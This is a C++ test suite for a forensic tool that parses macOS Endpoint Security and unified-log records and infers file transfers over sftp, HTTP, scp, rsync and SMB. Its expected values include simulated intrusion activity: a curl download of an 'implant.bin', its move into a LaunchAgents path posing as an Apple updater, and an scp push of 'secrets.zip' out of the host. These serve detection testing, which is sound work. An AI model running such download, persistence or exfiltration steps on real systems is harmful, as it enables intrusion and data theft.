// macOS: eslogger NDJSON (exec / fork / create / rename / mount / openssh_login, the kind read from
// the event key, a truncated record rejected with its line, uids named from ssh logins) and
// `log show --style ndjson` (sshd's messages read as OpenSSH's, local time with offset), their
// detection beside JSON lines, the canonical rows, and the transfers the existing rules find on a
// macOS host: an sftp push into it, a curl pull from an internal host, scp and rsync pushes out.

#include "TestSupport.h"

#include "core/FileSource.h"
#include "core/FormatDetector.h"
#include "core/ImportEngine.h"
#include "inference/InferenceEngine.h"
#include "inference/SmbMountRule.h"
#include "inference/TransferQuery.h"
#include "linux/SshdMessage.h"
#include "macos/MacLogParsers.h"
#include "store/CaseStore.h"
#include "store/MacActivity.h"
#include "store/Sqlite.h"

#include <QFile>
#include <QTemporaryDir>
#include <QTest>

using namespace tt;
using namespace tt::test;

namespace {
template<typename P> bool parseFixture(P &p, const char *name, CollectingSink &sink)
{
    ParseContext ctx;
    ctx.defaultHost = "MAC01";
    p.setContext(ctx);
    const std::string text = readFixture(QStringLiteral("macos/") + QLatin1String(name));
    MemorySource src(text);
    return p.parse(src, sink);
}

std::string describe(const inference::TransferRow &r)
{
    return r.source + " -> " + r.destination + " | " + r.account + " | " + r.path + " | " + r.srcPath + " | " + r.method
        + " | " + r.direction;
}
} // namespace

class TstMacos : public QObject {
    Q_OBJECT
private:
    QTemporaryDir m_dir;
    std::unique_ptr<store::CaseStore> m_case;

    std::string text(const std::string &sql)
    {
        auto st = m_case->db().prepare(sql.c_str());
        return st.step() && !st.isNull(0) ? st.text(0) : std::string("<null>");
    }

private slots:
    void detection()
    {
        const std::string es = readFixture(QStringLiteral("macos/mac01-eslogger.ndjson"));
        const std::string ul = readFixture(QStringLiteral("macos/mac01-unifiedlog.ndjson"));
        QCOMPARE(detectFormat(es.data(), es.size()), Format::Eslogger);
        QCOMPARE(detectFormat(ul.data(), ul.size()), Format::UnifiedLog);
        // Windows JSON lines stay JSON lines.
        const std::string nx = readFixture(QStringLiteral("json/nxlog_mordor_like.json"));
        QCOMPARE(detectFormat(nx.data(), nx.size()), Format::JsonLines);
        QCOMPARE(formatFromName("eslogger"), Format::Eslogger);
        QCOMPARE(formatFromName("unifiedlog"), Format::UnifiedLog);
    }

    void eslogger()
    {
        EsloggerParser p;
        CollectingSink sink;
        QVERIFY(parseFixture(p, "mac01-eslogger.ndjson", sink));
        QCOMPARE(sink.rejects.size(), size_t(1));
        QCOMPARE(sink.rejects[0].position, int64_t(7));
        QCOMPARE(sink.events.size(), size_t(11));
        const RawEvent &login = sink.events[0];
        QCOMPARE(login.channel, std::string("macos:es"));
        QCOMPARE(login.eventId, 96);
        QCOMPARE(login.recordId, int64_t(1001));
        QCOMPARE(fld(login, "event"), std::string("openssh_login"));
        QCOMPARE(fld(login, "user"), std::string("alice"));
        QCOMPARE(fld(login, "ip"), std::string("10.30.0.20"));
        QCOMPARE(login.originalFormat, std::string("json"));
        const RawEvent &curl = sink.events[4];
        QCOMPARE(fld(curl, "event"), std::string("exec"));
        QCOMPARE(fld(curl, "target_image"), std::string("/usr/bin/curl"));
        QCOMPARE(fld(curl, "target_pid"), std::string("901"));
        QCOMPARE(fld(curl, "target_ppid"), std::string("900"));
        QCOMPARE(fld(curl, "cmdline"), std::string("curl -o /tmp/implant.bin http://10.30.0.5/files/implant.bin"));
        QCOMPARE(fld(curl, "cwd"), std::string("/Users/alice"));
        QCOMPARE(fld(curl, "target_user"), std::string("alice")); // uid 501 named by the ssh login
        QCOMPARE(fld(sink.events[2], "path"), std::string("/Users/alice/Downloads/stage.pkg")); // new_path
        QCOMPARE(fld(sink.events[5], "path"), std::string("/tmp/implant.bin")); // existing_file
        const RawEvent &mount = sink.events[8];
        QCOMPARE(fld(mount, "fstype"), std::string("smbfs"));
        QCOMPARE(fld(mount, "mount_on"), std::string("/Volumes/share"));
        QCOMPARE(fld(mount, "mount_from"), std::string("//alice@fileserver.corp.local/share"));
        QCOMPARE(fld(sink.events[9], "cmdline"), std::string("echo \"<b>bold</b>\x1b[31m red\"")); // kept as written
        const RawEvent &mv = sink.events[10];
        QCOMPARE(fld(mv, "source_path"), std::string("/tmp/implant.bin"));
        QCOMPARE(fld(mv, "path"), std::string("/Users/alice/Library/LaunchAgents/com.apple.updater"));
    }

    // Terminal.app's `login -pf USER` (ES login_login, macOS 13+) names the uid like an ssh login.
    void esloggerLoginNamesUid()
    {
        const std::string proc
            = R"("process":{"audit_token":{"auid":502,"euid":502,"pid":950,"ruid":502},"executable":)"
              R"({"path":"/usr/bin/curl"},"ppid":949})";
        const std::string text
            = R"({"event":{"login_login":{"success":true,"failure_message":null,"username":"bob","has_uid":true,)"
              R"("uid":{"uid":502}}},"event_type":100,"global_seq_num":1,"time":"2026-03-11T10:00:00.000000000Z",)"
              R"("process":{"audit_token":{"auid":502,"euid":0,"pid":940,"ruid":0},"executable":{"path":"/usr/bin/login"},)"
              R"("ppid":939}})"
              "\n"
              R"({"event":{"create":{"destination_type":0,"destination":{"existing_file":{"path":"/tmp/x.bin"}}}},)"
              R"("event_type":13,"global_seq_num":2,"time":"2026-03-11T10:00:05.000000000Z",)"
            + proc + "}\n";
        EsloggerParser p;
        ParseContext ctx;
        ctx.defaultHost = "MAC01";
        p.setContext(ctx);
        CollectingSink sink;
        MemorySource src(text);
        QVERIFY(p.parse(src, sink));
        QCOMPARE(sink.events.size(), size_t(2));
        QCOMPARE(fld(sink.events[0], "event"), std::string("login_login"));
        QCOMPARE(fld(sink.events[0], "user"), std::string("bob"));
        QCOMPARE(fld(sink.events[1], "process_user"), std::string("bob"));
    }

    // The AirDrop ask sharingd logs (rule airdrop): the request's keys read from the NSDictionary
    // description, quoted or bare, escapes undone, a key inside another word ignored.
    void airDropAskKeys()
    {
        const std::string msg
            = "Ask request received: {\n    Files = (\n        {\n            FileName = \"a \\\"b\\\".pkg\";\n"
              "        },\n        {\n            FileName = notes.sh;\n        }\n    );\n"
              "    SenderComputerName = \"Bob's iPhone\";\n    SenderID = 5a6e1f0c2b3d;\n"
              "    XFileName = nope;\n}";
        QCOMPARE(store::plistValues(msg, "FileName"), (std::vector<std::string> {"a \"b\".pkg", "notes.sh"}));
        QCOMPARE(store::plistValues(msg, "SenderComputerName"), (std::vector<std::string> {"Bob's iPhone"}));
        QCOMPARE(store::plistValues(msg, "SenderID"), (std::vector<std::string> {"5a6e1f0c2b3d"}));
        QVERIFY(store::plistValues(msg, "SenderModelName").empty());
    }

    void unifiedLog()
    {
        UnifiedLogParser p;
        CollectingSink sink;
        QVERIFY(parseFixture(p, "mac01-unifiedlog.ndjson", sink));
        QCOMPARE(sink.rejects.size(), size_t(1));
        QCOMPARE(sink.rejects[0].position, int64_t(5));
        QCOMPARE(sink.events.size(), size_t(4));
        const RawEvent &acc = sink.events[1];
        QCOMPARE(acc.channel, std::string("linux:sshd"));
        QCOMPARE(acc.eventId, int(sshd::kAccepted));
        QCOMPARE(fld(acc, "user"), std::string("alice"));
        QCOMPARE(fld(acc, "ip"), std::string("10.30.0.20"));
        QCOMPARE(acc.timeUs, int64_t(1773223200090000)); // 11:00:00.09 +01:00 = 10:00:00.09 UTC
        QCOMPARE(sink.events[2].eventId, int(sshd::kSessionStart)); // sshd-session
        QCOMPARE(sink.events[3].channel, std::string("macos:unifiedlog"));
        QCOMPARE(sys(sink.events[3], "subsystem"), std::string("com.apple.sharing"));
    }

    void unifiedLogStyleJson()
    {
        const std::string doc = readFixture(QStringLiteral("macos/mac02-unifiedlog-style-json.json"));
        QCOMPARE(detectFormat(doc.data(), doc.size()), Format::UnifiedLog);
        UnifiedLogParser p;
        CollectingSink sink;
        QVERIFY(parseFixture(p, "mac02-unifiedlog-style-json.json", sink));
        QCOMPARE(sink.events.size(), size_t(2));
        QCOMPARE(sink.rejects.size(), size_t(1));
        QCOMPARE(sink.rejects[0].position, int64_t(3)); // the third entry of the array
        QCOMPARE(sink.events[0].channel, std::string("linux:sshd"));
        QCOMPARE(sink.events[0].eventId, int(sshd::kAccepted));
        QCOMPARE(fld(sink.events[0], "user"), std::string("bob"));
        QCOMPARE(sink.events[0].timeUs, int64_t(1773226800000000)); // 03:00 -08:00 = 11:00 UTC
        QCOMPARE(sink.events[1].eventId, int(sshd::kDisconnect));
        QVERIFY(sink.events[0].original.find("\"traceID\":1234") != std::string::npos); // minified entry kept
    }

    void transfers()
    {
        QVERIFY(m_dir.isValid());
        m_case = store::CaseStore::open(
            m_dir.filePath(QStringLiteral("mac.ttcase")).toStdString(), store::CaseStore::Access::Create);
        std::vector<std::string> inputs;
        for (const char *f : {"mac01-eslogger.ndjson", "mac01-unifiedlog.ndjson"})
            inputs.push_back(QString(fixturesDir() + QStringLiteral("/macos/") + QLatin1String(f)).toStdString());
        ImportEngine::Options opts;
        opts.defaultHost = "MAC01";
        ImportEngine engine(*m_case, opts);
        const ImportSummary s = engine.run(inputs);
        QCOMPARE(s.count(FileReport::Status::Imported), size_t(2));
        QCOMPARE(s.rejected(), int64_t(2));
        inference::InferenceEngine(*m_case).run();

        QCOMPARE(
            text("SELECT image || '|' || command_line || '|' || pid || '|' || parent_pid || '|' || a.domain || "
                 "'\\' || a.name FROM processes p JOIN accounts a ON a.id=p.account_id WHERE image='/usr/bin/curl'"),
            std::string(
                "/usr/bin/curl|curl -o /tmp/implant.bin http://10.30.0.5/files/implant.bin|901|900|MAC01\\alice"));
        QCOMPARE(text("SELECT group_concat(source_ip || ':' || logon_process, ' ') FROM logon_sessions WHERE "
                      "origin='sshd'"),
            std::string("10.30.0.20:eslogger 10.30.0.20:sshd"));
        QCOMPARE(text("SELECT group_concat(path, '|') FROM (SELECT path FROM file_events WHERE kind='create' ORDER BY "
                      "ts)"),
            std::string("/Users/alice/Downloads/stage.pkg|/tmp/implant.bin|/Users/alice/Library/LaunchAgents/"
                        "com.apple.updater"));

        const auto rows = inference::listTransfers(*m_case, {});
        std::string all;
        for (const auto &r : rows)
            all += r.file + ": " + describe(r) + "\n";
        auto find = [&](const std::string &file) -> std::string {
            for (const auto &r : rows)
                if (r.file == file)
                    return describe(r);
            return "<none>";
        };
        QVERIFY2(rows.size() == 4, all.c_str());
        QCOMPARE(find("stage.pkg"),
            std::string("10.30.0.20 -> MAC01 | MAC01\\alice | /Users/alice/Downloads/stage.pkg |  | sftp | push"));
        QCOMPARE(
            find("implant.bin"), std::string("10.30.0.5 -> MAC01 | MAC01\\alice | /tmp/implant.bin |  | http | pull"));
        QCOMPARE(find("secrets.zip"),
            std::string("MAC01 -> 10.30.0.21 | MAC01\\alice | /tmp/secrets.zip | /Users/alice/Documents/secrets.zip | "
                        "scp | push"));
        QCOMPARE(find("payload.tar.gz"),
            std::string("MAC01 -> 10.30.0.22 | MAC01\\alice | /opt/payload.tar.gz | /Users/alice/payload.tar.gz | "
                        "rsync | push"));
    }

    // An smbfs volume the Mac mounted (eslogger mount / unmount): a copy onto it is a push to the
    // server, a copy from it by a command naming the file a pull; what macOS writes on every SMB
    // volume, a write after the unmount and an AFP volume are none (mac03-eslogger-smb.ndjson).
    void smbMount()
    {
        QTemporaryDir dir;
        auto cs = store::CaseStore::open(
            dir.filePath(QStringLiteral("smb.ttcase")).toStdString(), store::CaseStore::Access::Create);
        ImportEngine::Options opts;
        opts.defaultHost = "MAC02";
        ImportEngine engine(*cs, opts);
        const ImportSummary s
            = engine.run({QString(fixturesDir() + QStringLiteral("/macos/mac03-eslogger-smb.ndjson")).toStdString()});
        QCOMPARE(s.rejected(), int64_t(0));
        inference::InferenceEngine(*cs).run();
        const auto rows = inference::listTransfers(*cs, {});
        std::string all;
        for (const auto &r : rows)
            all += r.file + ": " + describe(r) + " | " + r.rules + "\n";
        QVERIFY2(rows.size() == 2, all.c_str());
        auto find = [&](const std::string &file) -> const inference::TransferRow * {
            for (const auto &r : rows)
                if (r.file == file)
                    return &r;
            return nullptr;
        };
        const auto *push = find("payload.pkg");
        QVERIFY2(push, all.c_str());
        QCOMPARE(describe(*push),
            std::string("MAC02 -> FILES01 | MAC02\\bob | \\\\files01.corp.local\\projects\\drop\\payload.pkg | "
                        "/Users/bob/Desktop/payload.pkg | smb-share | push"));
        QCOMPARE(push->rules, std::string("smb-mount"));
        const auto *pull = find("q3 report.xlsx");
        QVERIFY2(pull, all.c_str());
        QCOMPARE(describe(*pull),
            std::string("FILES01 -> MAC02 | MAC02\\bob | /Users/bob/Downloads/q3 report.xlsx | "
                        "\\\\files01.corp.local\\projects\\finance\\q3 report.xlsx | smb-share | pull"));
    }

    // The Mac as an SMB server: smbd's unified-log messages (mac04-unifiedlog-smbd.ndjson, message
    // wording assumed, see the fixture README) read into session / share / file fields, the
    // session's client and user carried onto its later messages.
    void smbdMessages()
    {
        UnifiedLogParser p;
        CollectingSink sink;
        QVERIFY(parseFixture(p, "mac04-unifiedlog-smbd.ndjson", sink));
        QCOMPARE(sink.rejects.size(), size_t(0));
        QCOMPARE(sink.events.size(), size_t(18));
        for (const RawEvent &e : sink.events)
            QCOMPARE(e.channel, std::string("macos:smbd"));
        QCOMPARE(sink.events[0].eventId, int(SmbdMessage::kOther));
        const RawEvent &setup = sink.events[1];
        QCOMPARE(setup.eventId, int(SmbdMessage::kSessionSetup));
        QCOMPARE(fld(setup, "client_ip"), std::string("10.30.0.40"));
        QCOMPARE(fld(setup, "client_port"), std::string("50122"));
        QCOMPARE(fld(setup, "user"), std::string("carol"));
        QCOMPARE(fld(setup, "session"), std::string("0x4a1"));
        QCOMPARE(fld(setup, "auth"), std::string("NTLMv2"));
        QCOMPARE(setup.timeUs, int64_t(1773226805100000)); // 12:00:05.1 +01:00 = 11:00:05.1 UTC
        QCOMPARE(sys(setup, "subsystem"), std::string("com.apple.smbd"));
        const RawEvent &tree = sink.events[3];
        QCOMPARE(tree.eventId, int(SmbdMessage::kTreeConnect));
        QCOMPARE(fld(tree, "share_path"), std::string("/Users/Shared/Projects"));
        const RawEvent &create = sink.events[5];
        QCOMPARE(create.eventId, int(SmbdMessage::kCreate));
        QCOMPARE(fld(create, "file"), std::string("drop\\payload.exe"));
        QCOMPARE(fld(create, "share"), std::string("Projects"));
        QCOMPARE(fld(create, "share_path"), std::string("/Users/Shared/Projects")); // from the tree connect
        QCOMPARE(fld(create, "client_ip"), std::string("10.30.0.40")); // from the session setup
        QCOMPARE(fld(create, "user"), std::string("carol"));
        QCOMPARE(fld(create, "access"), std::string("0x00130197"));
        QCOMPARE(fld(create, "action"), std::string("created"));
        QCOMPARE(sink.events[6].eventId, int(SmbdMessage::kClose));
        QCOMPARE(fld(sink.events[6], "written"), std::string("73802"));
        QCOMPARE(sink.events[7].eventId, int(SmbdMessage::kLogoff));
        QCOMPARE(fld(sink.events[10], "file"), std::string("reports\\q3 report.docx")); // quoted, with a space
        QCOMPARE(fld(sink.events[16], "status"), std::string("STATUS_LOGON_FAILURE"));
        QCOMPARE(fld(sink.events[17], "client_ip"), std::string("<absent>")); // no session was set up
        QCOMPARE(SmbdMessage::operation("tree connect: share=x"), int(SmbdMessage::kTreeConnect));
        QCOMPARE(SmbdMessage::operation("SMB2 create file=x"), int(SmbdMessage::kOther)); // no ':'
    }

    // smbd normalised like a Windows file server's Security log (logon type 3, 5140, 5145), so
    // rule smb-share-write finds the client's push into the Mac's share; the other sessions (a
    // read, .DS_Store / AppleDouble files, folders, a failed logon) are no transfers.
    void smbdTransfer()
    {
        QTemporaryDir dir;
        auto cs = store::CaseStore::open(
            dir.filePath(QStringLiteral("smbd.ttcase")).toStdString(), store::CaseStore::Access::Create);
        ImportEngine::Options opts;
        opts.defaultHost = "MAC03";
        ImportEngine engine(*cs, opts);
        const ImportSummary s = engine.run(
            {QString(fixturesDir() + QStringLiteral("/macos/mac04-unifiedlog-smbd.ndjson")).toStdString()});
        QCOMPARE(s.count(FileReport::Status::Imported), size_t(1));
        QCOMPARE(s.rejected(), int64_t(0));
        inference::InferenceEngine(*cs).run();
        auto one = [&](const char *sql) {
            auto st = cs->db().prepare(sql);
            return st.step() && !st.isNull(0) ? st.text(0) : std::string("<null>");
        };
        QCOMPARE(
            one("SELECT group_concat(x, ' ') FROM (SELECT l.outcome || ':' || l.source_ip || ':' || l.source_port "
                "|| ':' || l.logon_id || ':' || a.domain || '\\' || a.name AS x FROM logon_sessions l JOIN accounts "
                "a ON a.id = l.account_id WHERE l.origin = 'smbd' ORDER BY l.ts)"),
            std::string("success:10.30.0.40:50122:0x4a1:MAC03\\carol success:10.30.0.41:50400:0x4b2:MAC03\\dave "
                        "failure:10.30.0.42:50800:0x4c3:MAC03\\admin"));
        QCOMPARE(one("SELECT group_concat(x, '|') FROM (SELECT code || ' ' || share_name || ' ' || "
                     "coalesce(relative_target, '-') || ' ' || coalesce(access_mask, '-') AS x FROM share_accesses "
                     "ORDER BY ts)"),
            std::string("5140 \\\\*\\IPC$ - -|5140 \\\\*\\Projects - -|5145 \\\\*\\Projects drop\\payload.exe "
                        "1245591|5140 \\\\*\\Projects - -|5145 \\\\*\\Projects reports\\q3 report.docx 1179785|"
                        "5145 \\\\*\\Projects reports\\.DS_Store 1245591|5145 \\\\*\\Projects reports\\._q3 "
                        "report.docx 1245591"));
        const auto rows = inference::listTransfers(*cs, {});
        std::string all;
        for (const auto &r : rows)
            all += r.file + ": " + describe(r) + " | " + r.rules + "\n";
        QVERIFY2(rows.size() == 1, all.c_str());
        QCOMPARE(rows[0].file, std::string("payload.exe"));
        QCOMPARE(describe(rows[0]),
            std::string("10.30.0.40 -> MAC03 | MAC03\\carol | /Users/Shared/Projects/drop/payload.exe |  | smb-share | "
                        "push"));
        QCOMPARE(rows[0].rules, std::string("smb-share-write"));
    }

    // Only the sessions that moved no file (mac04 without session 0x4a1): a read, .DS_Store and
    // AppleDouble writes, a folder, a failed logon with a refused create. The writes are in
    // share_accesses as 5145 with WriteData, and still no transfer.
    void smbdNoTransfer()
    {
        QTemporaryDir dir;
        const std::string text = readFixture(QStringLiteral("macos/mac04-unifiedlog-smbd.ndjson"));
        std::string kept;
        size_t at = 0;
        while (at < text.size()) {
            const size_t nl = text.find('\n', at);
            const std::string line = text.substr(at, nl == std::string::npos ? std::string::npos : nl + 1 - at);
            at = nl == std::string::npos ? text.size() : nl + 1;
            if (line.find("0x4a1") == std::string::npos)
                kept += line;
        }
        const QString path = dir.filePath(QStringLiteral("quiet.ndjson"));
        QFile f(path);
        QVERIFY(f.open(QIODevice::WriteOnly));
        f.write(kept.data(), static_cast<qint64>(kept.size()));
        f.close();
        auto cs = store::CaseStore::open(
            dir.filePath(QStringLiteral("quiet.ttcase")).toStdString(), store::CaseStore::Access::Create);
        ImportEngine::Options opts;
        opts.defaultHost = "MAC03";
        ImportEngine engine(*cs, opts);
        QCOMPARE(engine.run({path.toStdString()}).count(FileReport::Status::Imported), size_t(1));
        inference::InferenceEngine(*cs).run();
        auto st = cs->db().prepare("SELECT count(*) FROM share_accesses WHERE code = 5145 AND (access_mask & 2) != 0");
        QVERIFY(st.step());
        QCOMPARE(st.int64(0), int64_t(2)); // .DS_Store and ._q3 report.docx
        const auto rows = inference::listTransfers(*cs, {});
        std::string all;
        for (const auto &r : rows)
            all += r.file + ": " + describe(r) + " | " + r.rules + "\n";
        QVERIFY2(rows.empty(), all.c_str());
    }

    // smbd message words: IPv6 clients, a quoted value with escapes, a key inside another word.
    void smbdWords()
    {
        SmbdMessage::Tracker t;
        RawEvent setup;
        t.classify(setup, "700",
            "SMB2 session setup: client=[fe80::1c2:3ff:fe44:5566]:50999 user=\"CORP\\\\x \\\"q\\\"\" auth=Kerberos "
            "xsession=0x1 session=0x9");
        QCOMPARE(fld(setup, "client_ip"), std::string("fe80::1c2:3ff:fe44:5566"));
        QCOMPARE(fld(setup, "client_port"), std::string("50999"));
        QCOMPARE(fld(setup, "user"), std::string("CORP\\x \"q\""));
        QCOMPARE(fld(setup, "session"), std::string("0x9"));
        RawEvent create;
        t.classify(create, "700", R"(SMB2 create: session=0x9 share="C" file="a b\c.exe" action=created)");
        QCOMPARE(fld(create, "client_ip"), std::string("fe80::1c2:3ff:fe44:5566"));
        QCOMPARE(fld(create, "file"), std::string("a b\\c.exe")); // a lone backslash is kept
        RawEvent off;
        t.classify(off, "700", "SMB2 session logoff: session=0x9");
        RawEvent late;
        t.classify(late, "700", R"(SMB2 create: session=0x9 share="C" file="x" action=created)");
        QCOMPARE(fld(late, "client_ip"), std::string("<absent>")); // the session ended
    }

    // Both ends: the Windows client's own Sysmon 1 (`copy ... \\MAC03\Projects\drop\payload.exe`)
    // and Sysmon 3 (10.30.0.40:50122 -> 445) name the source host and merge with the Mac's smbd
    // record of the write into one transfer.
    void smbdBothEnds()
    {
        QTemporaryDir dir;
        auto cs = store::CaseStore::open(
            dir.filePath(QStringLiteral("smbd2.ttcase")).toStdString(), store::CaseStore::Access::Create);
        {
            ImportEngine engine(*cs, {});
            QCOMPARE(
                engine.run({QString(fixturesDir() + QStringLiteral("/macos/mac04-client-ws07.json")).toStdString()})
                    .count(FileReport::Status::Imported),
                size_t(1));
        }
        ImportEngine::Options opts;
        opts.defaultHost = "MAC03";
        ImportEngine engine(*cs, opts);
        QCOMPARE(
            engine.run({QString(fixturesDir() + QStringLiteral("/macos/mac04-unifiedlog-smbd.ndjson")).toStdString()})
                .count(FileReport::Status::Imported),
            size_t(1));
        inference::InferenceEngine(*cs).run();
        const auto rows = inference::listTransfers(*cs, {});
        std::string all;
        for (const auto &r : rows)
            all += r.file + ": " + describe(r) + " | " + r.rules + "\n";
        QVERIFY2(rows.size() == 1, all.c_str());
        QCOMPARE(describe(rows[0]),
            std::string("WS07 -> MAC03 | MAC03\\carol | /Users/Shared/Projects/drop/payload.exe | "
                        "C:\\Users\\carol\\Downloads\\payload.exe | smb-share | push"));
        QCOMPARE(rows[0].rules, std::string("smb-share-write,source-command"));
    }

    // The same write seen by Endpoint Security on the Mac (mac06: eslogger creates by
    // /usr/sbin/smbd): alone, an arrival over SMB from an unknown client (the Finder's housekeeping
    // files and a local TextEdit save are none); with the client's records, one transfer
    // WS07 -> MAC03 as the client's account.
    void smbdSeenByEndpointSecurity()
    {
        QTemporaryDir dir;
        const std::string mac
            = QString(fixturesDir() + QStringLiteral("/macos/mac06-eslogger-smbd.ndjson")).toStdString();
        ImportEngine::Options opts;
        opts.defaultHost = "MAC03";
        auto alone = store::CaseStore::open(
            dir.filePath(QStringLiteral("es1.ttcase")).toStdString(), store::CaseStore::Access::Create);
        QCOMPARE(ImportEngine(*alone, opts).run({mac}).count(FileReport::Status::Imported), size_t(1));
        inference::InferenceEngine(*alone).run();
        auto rows = inference::listTransfers(*alone, {});
        QCOMPARE(rows.size(), size_t(1));
        QCOMPARE(rows[0].source, std::string());
        QCOMPARE(describe(rows[0]),
            std::string(" -> MAC03 |  | /Users/Shared/Projects/drop/payload.exe |  | smb-share | push"));
        QCOMPARE(rows[0].rules, std::string("system-write"));
        QCOMPARE(rows[0].confidenceLabel, std::string("low"));

        auto both = store::CaseStore::open(
            dir.filePath(QStringLiteral("es2.ttcase")).toStdString(), store::CaseStore::Access::Create);
        QCOMPARE(ImportEngine(*both, {})
                     .run({QString(fixturesDir() + QStringLiteral("/macos/mac04-client-ws07.json")).toStdString()})
                     .count(FileReport::Status::Imported),
            size_t(1));
        QCOMPARE(ImportEngine(*both, opts).run({mac}).count(FileReport::Status::Imported), size_t(1));
        inference::InferenceEngine(*both).run();
        rows = inference::listTransfers(*both, {});
        std::string all;
        for (const auto &r : rows)
            all += r.file + ": " + describe(r) + " | " + r.rules + "\n";
        QVERIFY2(rows.size() == 1, all.c_str());
        QCOMPARE(describe(rows[0]),
            std::string("WS07 -> MAC03 | CORP\\carol | /Users/Shared/Projects/drop/payload.exe | "
                        "C:\\Users\\carol\\Downloads\\payload.exe | smb-share | push"));
        QCOMPARE(rows[0].rules, std::string("source-command,system-write"));
    }

    void smbMountSource_data()
    {
        QTest::addColumn<QString>("from");
        QTest::addColumn<QString>("expected"); // user|server|share
        QTest::newRow("user") << "//alice@fileserver.corp.local/share"
                              << "alice|fileserver.corp.local|share";
        QTest::newRow("domain") << "//CORP;bob@files01/projects/"
                                << "CORP\\bob|files01|projects";
        QTest::newRow("password dropped") << "//bob:s3cret@10.0.0.5:445/c$"
                                          << "bob|10.0.0.5|c$";
        QTest::newRow("guest") << "//mini.local/Public"
                               << "|mini.local|Public";
        QTest::newRow("no share") << "//server"
                                  << "||";
        QTest::newRow("local device") << "/dev/disk3s1"
                                      << "||";
    }

    void smbMountSource()
    {
        QFETCH(QString, from);
        QFETCH(QString, expected);
        const store::SmbMountSource s = store::parseSmbMountFrom(from.toStdString());
        QCOMPARE(QString::fromStdString(s.user + "|" + s.server + "|" + s.share), expected);
    }

    void volumeHousekeeping()
    {
        QVERIFY(inference::SmbMountRule::volumeHousekeeping("/Volumes/s/a/.DS_Store"));
        QVERIFY(inference::SmbMountRule::volumeHousekeeping("/Volumes/s/._x.pkg"));
        QVERIFY(inference::SmbMountRule::volumeHousekeeping("/Volumes/s/.TemporaryItems/folders.501/x"));
        QVERIFY(!inference::SmbMountRule::volumeHousekeeping("/Volumes/s/x.pkg"));
        QVERIFY(!inference::SmbMountRule::volumeHousekeeping("/Volumes/s/a._b"));
    }
};

QTEST_GUILESS_MAIN(TstMacos)
#include "tst_macos.moc"
